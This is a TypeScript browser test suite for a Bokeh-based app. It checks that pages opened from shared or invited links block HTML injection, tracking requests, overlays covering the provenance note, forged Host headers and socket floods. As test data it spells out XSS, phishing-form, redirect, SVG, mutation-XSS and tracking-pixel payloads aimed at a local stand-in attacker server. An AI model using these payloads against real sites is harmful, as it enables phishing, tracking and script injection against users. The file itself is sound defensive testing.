// The protection of a visitor who opens a link from a sender who has a raw socket and can write any HTML.

import { createServer, request, type Server } from "node:http"
import { join } from "node:path"

import type { Browser, Page } from "playwright-core"
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest"

import { SESSION_LIMITS } from "../../src/util/limits.ts"
import {
  type BokehClient,
  connect,
  linkBy,
  openToken,
  sessionIdOf,
} from "../support/bokeh-client.ts"
import { documentsAreDrawn, openBrowser, openPage, SCREENSHOTS } from "../support/browser.ts"
import { openRaw, type RawSocket } from "../support/raw-socket.ts"
import { type RunningWorker, startWorker } from "../support/start-worker.ts"
import { listening } from "../support/static-site.ts"

interface BokehPage {
  readonly Bokeh: { readonly documents: readonly { roots(): { value: number }[] }[] }
}

let attacker: Server
let attackerUrl: string
/** The server from which the app's own documents load resources. */
let friend: Server
let friendUrl: string
let askedOfFriend: string[] = []
/** The requests that reached the sender's own server. */
let reached: string[] = []
let worker: RunningWorker
let browser: Browser
beforeAll(async () => {
  attacker = createServer(({ url = "" }, response) => {
    if (url !== "/favicon.ico") reached.push(url)
    response.end("gotcha")
  })
  attackerUrl = `http://127.0.0.1:${await listening(attacker)}`
  friend = createServer(({ url = "" }, response) => {
    askedOfFriend.push(url)
    response.end()
  })
  friendUrl = `http://127.0.0.1:${await listening(friend)}`
  worker = await startWorker({
    entry: join(import.meta.dirname, "strangers-app.ts"),
    vars: { FRIEND: friendUrl },
  })
  browser = await openBrowser()
})
afterAll(async () => {
  attacker.close()
  friend.close()
  await browser.close()
  await worker.stop()
})
beforeEach(() => {
  reached = []
  askedOfFriend = []
})

/** Everything that HTML can do by itself or at a click. */
function attackHtml(): string {
  return `<p>Your session has ended.</p>
    <form action="${attackerUrl}/form" method="get"><input name="password" value="secret">
      <button id="sign-in">Sign in</button></form>
    <form action="/board" id="own"><input name="x"></form><button form="own" id="own-form">Own</button>
    <button formaction="${attackerUrl}/formaction" id="formaction" form="own">Other</button>
    <meta http-equiv="refresh" content="0;url=${attackerUrl}/refresh">
    <base href="${attackerUrl}/base/"><iframe src="${attackerUrl}/frame"></iframe>
    <iframe srcdoc="<script>parent.location='${attackerUrl}/srcdoc'</script>"></iframe>
    <object data="${attackerUrl}/object"></object><embed src="${attackerUrl}/embed">
    <link rel="stylesheet" href="${attackerUrl}/style.css">
    <script>location = "${attackerUrl}/script"</script>
    <img src="x:" onerror="location='${attackerUrl}/onerror'">
    <a href="${attackerUrl}/link" target="_blank" id="link">Continue</a>
    <a href="javascript:location='${attackerUrl}/javascript'" id="javascript">Go on</a>
    <svg width="80" height="20"><a href="${attackerUrl}/svg" id="svg"><text y="15">svg</text></a>
      <a id="animated"><animate attributeName="href" to="${attackerUrl}/animated" fill="freeze"
        dur="1ms"/><text x="40" y="15">svg</text></a></svg>
    <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;a id=mutated href='${attackerUrl}/mutated'&gt;x&lt;/a&gt;">`
}

async function senderAt(
  path: string,
  html = attackHtml(),
): Promise<{ client: BokehClient; token: string }> {
  const token = await openToken(worker.url + path)
  const client = await connect(`${worker.url.replace("http", "ws")}${path}/ws`, token)
  await client.waitForMessage("ACK")
  const { content } = await client.request("PULL-DOC-REQ")
  const [, id = ""] = /"name":"Div","id":"(\w+)"/.exec(JSON.stringify(content)) ?? []
  const change = { kind: "ModelChanged", model: { id }, attr: "text", new: html }
  const { header } = await client.request("PATCH-DOC", { events: [change] })
  expect(header.msgtype).toBe("OK")
  return { client, token }
}

type Link =
  | "copy"
  | "copy to look at"
  | "viewer's invitation"
  | "editor's invitation"
  | "session id"

async function linkOf(kind: Link, path: string): Promise<string> {
  const { client, token } = await senderAt(path)
  switch (kind) {
    case "copy":
      return linkBy(client, "publish", null)
    case "copy to look at":
      return `${await linkBy(client, "publish", null)}&bokeh-view`
    case "viewer's invitation":
      return linkBy(client, "invite", "viewer")
    case "editor's invitation":
      return linkBy(client, "invite", "editor")
    case "session id":
      return `${worker.url}${path}?bokeh-session-id=${sessionIdOf(token)}`
    default:
      return kind satisfies never
  }
}

/** The visitor clicks everything that the page offers. */
async function fallForEverything(page: Page): Promise<void> {
  const ids = [
    "sign-in",
    "own-form",
    "formaction",
    "link",
    "javascript",
    "svg",
    "animated",
    "mutated",
  ]
  for (const id of ids) {
    const target = page.locator(`#${id}`)
    // oxlint-disable no-await-in-loop -- one after another
    if ((await target.count()) === 0) continue
    await target.first().dispatchEvent("click")
    await target
      .first()
      .click({ force: true, timeout: 500 })
      .catch(() => undefined)
    // oxlint-enable no-await-in-loop
  }
  await page.waitForTimeout(300)
}

/** Pictures and styles that would report to others that a page was opened, and its content. */
function pictures(): string {
  const at = (name: string) => `${attackerUrl}/${name}`
  return `<img src="${at("img")}"><img srcset="${at("srcset")} 1x"><picture><source srcset="${at("source")}"><img src="data:,"></picture>
    <video poster="${at("poster")}"></video><audio src="${at("audio")}"></audio><input type="image" src="${at("input")}">
    <svg><image href="${at("svg-image")}"/></svg><style>p { background: url(${at("style")}) }</style>
    <p style="background: url(${at("style-attribute")})">styled</p><table background="${at("table")}"></table>`
}

describe("a revoked guest's page", () => {
  it.each(["viewer", "editor"])(
    "shows a %s that the invitation was revoked, and stays disconnected",
    async (role) => {
      const { client } = await senderAt("/board", "hello, guest")
      const link = await linkBy(client, "invite", role)
      const { page, errors } = await openPage(browser, link)
      await page.getByText("hello, guest").waitFor()
      await linkBy(client, "revoke", null)
      await expect.poll(() => page.innerText("body")).toContain("invitation was revoked")
      await page.screenshot({ path: `dist/screenshots/revoked-${role}.png` })
      await page.waitForTimeout(3000)
      const change = { kind: "TitleChanged", title: "after it was revoked" }
      await client.request("PATCH-DOC", { events: [change] })
      expect(await page.title()).not.toBe("after it was revoked")
      expect(errors).toEqual([])
      await page.reload()
      await page.getByText("This link does not work: the invitation was revoked").waitFor()
      expect(await page.innerText("body")).not.toContain("hello, guest")
      await page.close()
    },
  )

  it.each([".noUi-handle", ".bk-Canvas"])(
    "is intact if the guest was dragging %s",
    async (dragged) => {
      const { client } = await senderAt("/everything", "hello, guest")
      const link = await linkBy(client, "invite", "editor")
      const { page, errors } = await openPage(browser, link)
      await documentsAreDrawn(page)
      const place = page.locator(dragged).first()
      await place.scrollIntoViewIfNeeded()
      const box = await place.boundingBox()
      if (box === null) throw new Error(`${dragged} is not in the page`)
      const [middleX, middleY] = [box.x + box.width / 2, box.y + box.height / 2]
      await page.mouse.move(middleX, middleY)
      await page.mouse.down()
      await page.mouse.move(middleX + 20, middleY, { steps: 4 })
      await linkBy(client, "revoke", null)
      const isTold = async () => (await page.innerText("body")).includes("invitation was revoked")
      for (let i = 21; !(await isTold()); i = i === 60 ? 21 : i + 1) {
        await page.mouse.move(middleX + i, middleY)
      }
      await page.mouse.move(middleX + 10, middleY, { steps: 4 })
      await page.mouse.up()
      await page.screenshot({ path: join(SCREENSHOTS, "revoked-dragging.png") })
      expect(await page.innerText("body")).not.toContain("Not connected")
      // A move may be sent while the socket closes, which Chromium logs.
      expect(errors.filter((error) => !error.startsWith("WebSocket is already"))).toEqual([])
      await page.close()
    },
  )
})

describe("a sender's tracking pictures", () => {
  it.each(["copy", "viewer's invitation"] as const)(
    "are not loaded by the page of a %s",
    async (kind) => {
      const { client } = await senderAt("/board", pictures())
      const link = await linkBy(client, kind === "copy" ? "publish" : "invite", "viewer")
      const { page } = await openPage(browser, link)
      await page.getByText("styled").waitFor()
      await page.waitForTimeout(1000)
      expect(reached).toEqual([])
      await page.close()
    },
  )
})

describe("the note that somebody else made the page", () => {
  it("can't be covered by the maker's content", async () => {
    const html = `<div popover id="over" style="inset: 0; width: 100%; height: 100%">over</div>
      <button popovertarget="over" id="raise">raise</button><b style="${OVER}">all is well</b>`
    const { client } = await senderAt("/loading", html)
    const { styled, kept } = await namedModels(client)
    const styles = { type: "map", entries: OVER.split(";").map((one) => one.split(":")) }
    const events = [styled, kept].map((id) => ({
      kind: "ModelChanged",
      model: { id },
      attr: "styles",
      new: styles,
    }))
    await client.request("PATCH-DOC", { events })
    const { page } = await openPage(browser, await linkBy(client, "publish", null))
    await page.getByText("all is well").waitFor()
    await page.locator("#raise").dispatchEvent("click")
    await page.getByText(/^\s*Somebody else made this on [\d-]{10}\.\s*$/).waitFor()
    const isOnTop = await page.evaluate<boolean>(`(() => {
      const note = document.querySelector("[data-bokeh-note]")
      const { x, y, width, height } = note.getBoundingClientRect()
      return document.elementFromPoint(x + width / 2, y + height / 2) === note
    })()`)
    await page.screenshot({ path: "dist/screenshots/strangers-covered.png" })
    expect(isOnTop).toBe(true)
    await page.close()
  })
})

const OVER =
  "position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:white"

describe("the resources that a sender's models load", () => {
  it.each(["copy", "viewer's invitation", "session id"] as const)(
    "are not requested by the page of a %s",
    async (kind) => {
      const { client, token } = await senderAt("/loading", "kept")
      await client.request("PATCH-DOC", {
        events: loadedFrom(attackerUrl, await namedModels(client)),
      })
      const link =
        kind === "session id"
          ? `${worker.url}/loading?bokeh-session-id=${sessionIdOf(token)}`
          : await linkBy(client, kind === "copy" ? "publish" : "invite", "viewer")
      const { page } = await openPage(browser, link)
      await page.getByText("kept").waitFor()
      await expect.poll(() => askedOfFriend).toContain("/kept")
      await page.waitForTimeout(1000)
      expect(reached).toEqual([])
      await page.close()
    },
  )

  it("are all requested by the app's own page", async () => {
    const { page } = await openPage(browser, `${worker.url}/loading`)
    // Its tiles don't exist, so it never finishes loading them.
    const loaded = () => new Set(askedOfFriend.map((url) => url.split("/")[1]))
    await expect
      .poll(loaded)
      .toEqual(new Set(["image", "tile", "kept", "styles", "import", "sheet"]))
    await page.close()
  })
})

/** The ids of the named models. */
async function namedModels(client: BokehClient): Promise<Readonly<Record<string, string>>> {
  const { content } = await client.request("PULL-DOC-REQ")
  const found = JSON.stringify(content).matchAll(/"id":"(\w+)","attributes":\{"name":"(\w+)"/g)
  return Object.fromEntries(Array.from(found, ([, id = "", name = ""]) => [name, id]))
}

function loadedFrom(at: string, ids: Readonly<Record<string, string>>): readonly object[] {
  const set = (name: string, attr: string, value: unknown) => ({
    kind: "ModelChanged",
    model: { id: ids[name] },
    attr,
    new: value,
  })
  const map = (...entries: readonly unknown[]) => ({ type: "map", entries })
  const url = (name: string) => `url(${at}/${name})`
  return [
    set("pictures", "data", map(["url", [`${at}/image`]], ["x", [0]], ["y", [0]])),
    set("tiles", "url", `${at}/tile/{Z}/{X}/{Y}`),
    set(
      "styled",
      "styles",
      map(["background", url("styles")], ["cursor", `${url("cursor")}, auto`]),
    ),
    set("styled", "css_variables", map(["--border", url("variable")])),
    set("styled", "stylesheets", [
      `@import ${url("import")}; @font-face { font-family: x; src: ${url("font")} }
       :host { list-style: ${url("sheet")} inside; font-family: x; mask: ${url("mask")}; content: ${url("content")} }`,
      map(["div", map(["background-image", url("nested")])]),
    ]),
  ]
}

describe("a page that a link leads to", () => {
  const kinds: readonly Link[] = [
    "copy",
    "copy to look at",
    "viewer's invitation",
    "editor's invitation",
    "session id",
  ]
  it.each(kinds)("[A5] (%s) shows the sender's text, which runs no code", async (kind) => {
    const link = await linkOf(kind, "/board")
    const { page } = await openPage(browser, link)
    await documentsAreDrawn(page)
    await page.getByText("Your session has ended.").waitFor()
    const popups: string[] = []
    page.on("popup", (popup) => popups.push(popup.url()))
    await fallForEverything(page)
    expect({ reached, popups, url: page.url() }).toEqual({ reached: [], popups: [], url: link })
    expect(await page.locator("iframe, form, object, embed").count()).toBe(0)
    await page.screenshot({
      path: `dist/screenshots/strangers-${kind.replaceAll(/\W+/g, "-")}.png`,
    })
    await page.close()
  })

  it.each(["copy", "editor's invitation"] as const)(
    "[A5] (%s) runs the code of the app's own document, and shows who made the page",
    async (kind) => {
      const { page } = await openPage(browser, await linkOf(kind, "/coded"))
      await documentsAreDrawn(page)
      await page.evaluate(() => {
        const { Bokeh } = globalThis as unknown as BokehPage
        const [slider] = Bokeh.documents[0]?.roots() ?? []
        if (slider !== undefined) slider.value = 5
      })
      await page.waitForFunction("document.title === 'code ran: 5'")
      await expect.poll(() => page.getByText(SOMEBODY).isVisible()).toBe(true)
      expect(reached).toEqual([])
      await page.close()
    },
  )

  it("[A5] allows no code if the app's own document has none", async () => {
    const { page } = await openPage(browser, await linkOf("copy", "/board"))
    await documentsAreDrawn(page)
    // Not in the evaluation itself, to which the policy does not apply.
    const made = await page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          setTimeout(() => {
            try {
              // oxlint-disable-next-line typescript/no-implied-eval -- whether it is allowed
              resolve(String(new Function("return 'made'")()))
            } catch (error) {
              resolve((error as Error).name)
            }
          })
        }),
    )
    expect(made).toBe("EvalError")
    await page.close()
  })
})

describe("a copy's picture", () => {
  const form = () => `<form action="${attackerUrl}/form"><input><button>Sign in</button></form>
    <meta http-equiv="refresh" content="0;url=${attackerUrl}/refresh">`
  const dataUrl = (type: string, content: string) =>
    `data:image/${type};base64,${Buffer.from(content, "latin1").toString("base64")}`

  it("can't be a document of another type", async () => {
    const { client } = await senderAt("/board", "")
    const svg = `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject>${form()}</foreignObject></svg>`
    const answer = await linkBy(client, "publish with", dataUrl("svg+xml", svg))
    expect(answer).toContain("the preview must be a png, webp or jpeg")
  })

  it("can't act as a document with a picture's type", async () => {
    const { client } = await senderAt("/board", "")
    const picture = dataUrl("png", `\x89PNG\r\n\x1A\n\0\0\0\r<html><body>${form()}`.padEnd(600))
    const link = await linkBy(client, "publish with", picture)
    const { page } = await openPage(browser, link)
    await page.waitForTimeout(300)
    expect(await page.locator("form, input").count()).toBe(0)
    expect({ reached, url: page.url() }).toEqual({ reached: [], url: link })
    await page.close()
  })
})

describe("BokehJS in a page that a link leads to", () => {
  it("[A5] shows the same as elsewhere without running the document's code", async () => {
    const own = await openPage(browser, `${worker.url}/everything`)
    await documentsAreDrawn(own.page)
    const { client } = await senderAt("/everything", "<b>bold</b> <a href='/board'>here</a>")
    const copy = await openPage(browser, await linkBy(client, "publish", null))
    await documentsAreDrawn(copy.page)
    for (const { page } of [own, copy]) {
      // oxlint-disable no-await-in-loop -- one after another
      await page
        .locator(".bk-events")
        .first()
        .hover({ position: { x: 150, y: 100 } })
      await page.getByText("in a tab").waitFor()
      await expect.poll(() => shownText(page)).toContain("January")
      // oxlint-enable no-await-in-loop
    }
    await expect
      .poll(async () => {
        const [one, other] = [await shownText(own.page), await shownText(copy.page)]
        return one === other ? "the same" : `${one} and ${other}`
      })
      .toBe("the same")
    expect([own.errors, copy.errors]).toEqual([[], []])
    await expect
      .poll(() => copy.page.locator("a", { hasText: "here" }).getAttribute("href"))
      .toBe("/board")
    await copy.page.screenshot({
      path: "dist/screenshots/strangers-everything.png",
      fullPage: true,
    })
    await Promise.all([own.page.close(), copy.page.close()])
  })
})

async function shownText(page: Page): Promise<string> {
  const text = await page.evaluate<string>(SHOWN_TEXT)
  return text.replace(SOMEBODY, "").trim()
}

/** Copies also say on which day. */
const SOMEBODY = /Somebody else made this(?: on [\d-]{10})?\./

/** Runs in the page: the text of all elements, including shadow roots. */
const SHOWN_TEXT = `(() => {
  const textOf = (node) =>
    [...node.childNodes]
      .map((child) => {
        if (!(child instanceof Element)) return child.textContent.trim()
        return ["SCRIPT", "STYLE"].includes(child.tagName) ? "" : textOf(child.shadowRoot ?? child)
      })
      .filter((text) => text !== "")
      .join(" ")
  return textOf(document.body)
})()`

describe("the attack", () => {
  it("is real, since it succeeds on an unprotected page", async () => {
    const html = `<a href="${attackerUrl}/link" id="link">x</a><iframe src="${attackerUrl}/frame"></iframe>`
    const { page } = await openPage(
      browser,
      `${worker.url}/as-asked?html=${encodeURIComponent(html)}`,
    )
    await documentsAreDrawn(page)
    await expect.poll(() => reached).toContain("/frame")
    await page.locator("#link").click()
    await page.waitForURL(`${attackerUrl}/link`)
    expect(reached.toSorted()).toEqual(["/frame", "/link"])
    await page.close()
  })
})

describe("a raw request", () => {
  const statusFor = (headers: Record<string, string>, path = "/board") =>
    new Promise<number>((resolve, reject) => {
      const { hostname, port } = new URL(worker.url)
      const sent = request({ hostname, port, path, headers }, (response) => {
        response.resume()
        resolve(response.statusCode ?? 0)
      })
      sent.on("upgrade", (_response, socket) => {
        socket.destroy()
        resolve(101)
      })
      sent.on("error", reject)
      sent.end()
    })

  it("[H1] with a foreign host name that resolves to this server gets no page and no socket", async () => {
    const evil = { Host: "evil.example", Origin: "http://evil.example" }
    expect(await statusFor(evil)).toBe(421)
    const token = await openToken(`${worker.url}/board`)
    const upgrade = {
      Connection: "Upgrade",
      Upgrade: "websocket",
      "Sec-WebSocket-Version": "13",
      "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==",
      "Sec-WebSocket-Protocol": `bokeh, ${token}`,
    }
    expect(await statusFor({ ...evil, ...upgrade }, "/board/ws")).toBe(421)
    const own = new URL(worker.url).host
    expect(await statusFor({ Host: own, Origin: worker.url, ...upgrade }, "/board/ws")).toBe(101)
  })

  it("that keeps closed sockets open is ignored, and gets no further sockets", async () => {
    const token = await openToken(`${worker.url}/board`)
    const open = () => openRaw(`${worker.url}/board/ws`, token)
    const deaf: RawSocket[] = []
    for (let i = 0; i < SESSION_LIMITS.sockets; i++) {
      // oxlint-disable-next-line no-await-in-loop -- each takes the place of the last
      const socket = await open()
      socket.sendText("no message of the protocol")
      // oxlint-disable-next-line no-await-in-loop
      expect(await socket.closeCode()).toBe(1002)
      socket.send("PATCH-DOC", { events: [{ kind: "TitleChanged", title: "theirs" }] })
      deaf.push(socket)
    }
    await expect(open()).rejects.toThrow("HTTP/1.1 503")
    expect(deaf.some(({ isOver }) => isOver)).toBe(false)
    deaf[0]?.destroy()
    let next: RawSocket | undefined
    const tries = async () => (next = await open().catch(() => undefined))
    await expect.poll(tries).toBeDefined()
    next?.send("PULL-DOC-REQ", {})
    await expect.poll(() => next?.texts.join("")).toContain("PULL-DOC-REPLY")
    expect(next?.texts.join("")).not.toContain("theirs")
    for (const socket of [...deaf, next]) socket?.destroy()
  })

  it("for a static file is answered by the platform, with content type sniffing disabled", async () => {
    const { status, headers } = await fetch(`${worker.url}/static/js/bokeh.min.js`)
    expect([status, headers.get("X-Content-Type-Options"), headers.get("Cache-Control")]).toEqual([
      200,
      "nosniff",
      "public, max-age=86400",
    ])
    const missing = await fetch(`${worker.url}/static/no.js`)
    // The response is empty, so there is no type to sniff.
    expect([missing.status, await missing.text()]).toEqual([404, ""])
  })
})
